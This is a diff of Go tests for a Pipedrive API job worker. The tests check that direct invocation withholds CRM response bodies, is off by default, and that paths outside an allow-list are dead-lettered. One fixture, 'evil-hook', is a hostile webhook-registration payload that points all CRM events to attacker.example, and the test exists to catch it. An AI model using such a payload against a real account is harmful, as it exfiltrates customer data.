@@ -31,30 +31,25 @@ func TestDirectInvokeReturnsTheResult(t *testing.T) {
 	if res.JobID != "api_call:3408256:5206648:list-deals-1" || res.Kind != jobs.KindAPICall || res.Outcome != worker.OutcomeSucceeded || res.Reason != "ok" || res.Status != 200 {
 		t.Errorf("Result = %+v, want succeeded 200 for the fixture's job", res)
 	}
-	var body struct {
-		Success bool `json:"success"`
-		Data    []struct {
-			Title string `json:"title"`
-		} `json:"data"`
-	}
-	if err := json.Unmarshal(res.Body, &body); err != nil || !body.Success || len(body.Data) != 2 || body.Data[1].Title != "Deal two" {
-		t.Errorf("Result.Body = %s (err %v), want Pipedrive's list of the two deals", res.Body, err)
-	}
 	enc, err := json.Marshal(res)
 	if err != nil {
 		t.Fatal(err)
 	}
 	var shape map[string]any
 	_ = json.Unmarshal(enc, &shape)
-	for _, k := range []string{"job_id", "kind", "outcome", "reason", "status", "body"} {
+	for _, k := range []string{"job_id", "kind", "outcome", "reason", "status"} {
 		if _, ok := shape[k]; !ok {
 			t.Errorf("Result JSON %s lacks %q", enc, k)
 		}
 	}
+	// The outcome, never Pipedrive's answer: invoking the worker must not read a customer's CRM.
+	if _, ok := shape["body"]; ok || strings.Contains(string(enc), "Deal two") {
+		t.Errorf("Result JSON %s carries Pipedrive's body", enc)
+	}
 
 	again := e.direct(string(payload))
-	if again.Outcome != worker.OutcomeDuplicate || again.Body != nil {
-		t.Errorf("second invoke = %s with body %t, want duplicate without body", again.Outcome, again.Body != nil)
+	if again.Outcome != worker.OutcomeDuplicate {
+		t.Errorf("second invoke = %s, want duplicate", again.Outcome)
 	}
 	if got := e.sim.Counters().APIByRoute["GET /api/v2/deals"]; got != 1 {
 		t.Errorf("GET /api/v2/deals calls = %d, want 1", got)
@@ -62,7 +57,7 @@ func TestDirectInvokeReturnsTheResult(t *testing.T) {
 }
 
 func TestDirectInvokeOutcomes(t *testing.T) {
-	e := newEnv(t, withConfig(func(c *config) { c.MaxResultBody = 40 }))
+	e := newEnv(t)
 	e.install(pdsim.DefaultUserID)
 	e.sim.Inject(pdsim.Fault{Path: "/api/v2/deals", Status: 429, Header: http.Header{"Retry-After": {"7"}}})
 
@@ -90,10 +85,10 @@ func TestDirectInvokeOutcomes(t *testing.T) {
 		}
 		wantDeadLetter(t, dead[0], payload, "not_found", 404)
 	})
-	t.Run("body over the limit is left out", func(t *testing.T) {
-		res := e.direct(encode(t, job("d-big", "GET", "/api/v1/users/me", "")))
-		if res.Outcome != worker.OutcomeSucceeded || res.Body != nil || !res.BodyOmitted {
-			t.Errorf("Result = %s body %d bytes omitted %t, want succeeded with the body omitted", res.Outcome, len(res.Body), res.BodyOmitted)
+	t.Run("succeeded: the status, not the body", func(t *testing.T) {
+		res := e.direct(encode(t, job("d-me", "GET", "/api/v1/users/me", "")))
+		if res.Outcome != worker.OutcomeSucceeded || res.Status != 200 || res.Body != nil {
+			t.Errorf("Result = %s %d body %d bytes, want succeeded 200 without Pipedrive's body", res.Outcome, res.Status, len(res.Body))
 		}
 	})
 	t.Run("not before: deferred, not run", func(t *testing.T) {
@@ -169,5 +164,65 @@ func TestDirectInvokeThroughTheRuntimeShape(t *testing.T) {
 	}
 	if dead := e.deadLetters(); len(dead) != 1 || attr(dead[0], "job_id") != "shape" || aws.ToString(dead[0].Body) == "" {
 		t.Errorf("dead letters = %d, want the job", len(dead))
+	}
+}
+
+// TestDirectInvokeRefusedByDefault: with the template's default (WorkerDirectInvoke=false) a
+// direct invocation runs nothing, calls nothing and says how to send a job instead.
+func TestDirectInvokeRefusedByDefault(t *testing.T) {
+	e := newEnv(t)
+	fenv := e.res.FunctionEnv("ApiCallFunction")
+	def, err := configFromEnv(func(k string) string { return fenv[k] })
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.h.DirectInvoke = def.DirectInvoke
+	e.install(pdsim.DefaultUserID)
+	out, err := e.h.Handle(t.Context(), json.RawMessage(encode(t, job("d-refused", "POST", "/api/v2/deals", `{"title":"x"}`))))
+	var off *DirectInvokeOffError
+	if !errors.As(err, &off) || out != nil || !strings.Contains(err.Error(), "jobs queue") {
+		t.Fatalf("Handle(direct job) = %v, %v; want a *DirectInvokeOffError pointing to the jobs queue", out, err)
+	}
+	if got := e.apiCalls(); len(got) != 0 {
+		t.Errorf("simulator answers = %v, want none", got)
+	}
+	if got := e.deadLetters(); len(got) != 0 {
+		t.Errorf("dead letters = %d, want none", len(got))
+	}
+	// The jobs queue still runs jobs.
+	if _, failed := e.deliver(encode(t, job("q-ok", "GET", "/api/v2/deals", ""))); len(failed) != 0 {
+		t.Errorf("SQS delivery failed: %v", failed)
+	}
+}
+
+// TestPathOutsideTheAllowListIsDeadLettered: with ApiCallPathPrefixes set, a job for another
+// path (or one that only starts with the same letters) is dead-lettered with path_not_allowed and an
+// alert, and Pipedrive is never called; a path inside runs.
+func TestPathOutsideTheAllowListIsDeadLettered(t *testing.T) {
+	e := newEnv(t, withConfig(func(c *config) { c.PathPrefixes = []string{"/api/v2/deals"} }))
+	e.install(pdsim.DefaultUserID)
+	outside := encode(t, job("evil-hook", "POST", "/api/v1/webhooks", `{"subscription_url":"https://attacker.example/x","event_action":"*","event_object":"*"}`))
+	lookalike := encode(t, job("lookalike", "GET", "/api/v2/dealsfields", ""))
+	_, failed := e.deliver(outside, lookalike)
+	if len(failed) != 0 {
+		t.Errorf("failed = %v, want both dead-lettered and acknowledged", failed)
+	}
+	dead := e.deadLetters()
+	if len(dead) != 2 {
+		t.Fatalf("dead letters = %d, want 2", len(dead))
+	}
+	for _, m := range dead {
+		if got := attr(m, "reason"); got != "path_not_allowed" {
+			t.Errorf("dead letter %s reason = %q, want path_not_allowed", attr(m, "job_id"), got)
+		}
+	}
+	if got := e.apiCalls(); len(got) != 0 {
+		t.Errorf("simulator answers = %v, want none: nothing outside the list reaches Pipedrive", got)
+	}
+	if got := e.alertReasons(); len(got) == 0 || got[0] != "path_not_allowed" {
+		t.Errorf("alerts = %v, want path_not_allowed", got)
+	}
+	if _, failed := e.deliver(encode(t, job("inside", "GET", "/api/v2/deals?limit=5", ""))); len(failed) != 0 || e.decisionFor("inside").Action != "succeeded" {
+		t.Errorf("a job inside the list = failed %v, decision %+v; want it run", failed, e.decisionFor("inside"))
 	}
 }
